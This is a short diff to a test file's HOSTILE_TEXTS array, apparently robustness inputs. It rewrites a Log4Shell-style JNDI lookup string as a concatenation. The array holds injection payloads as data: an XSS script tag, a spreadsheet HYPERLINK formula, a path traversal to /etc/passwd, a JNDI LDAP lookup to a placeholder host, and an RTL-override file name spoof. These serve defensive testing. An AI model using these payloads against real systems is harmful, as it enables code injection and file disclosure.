@@ -76,7 +76,7 @@ export const HOSTILE_TEXTS = [
   '<script>alert(1)</script>',
   '=HYPERLINK("http://example.test")',
   '../../etc/passwd',
-  '${jndi:ldap://example.test}',
+  '$' + '{jndi:ldap://example.test}',
   '\u202Egnp.exe',
   '👩‍👩‍👧‍👦'.repeat(10),
   '𠮷野家',
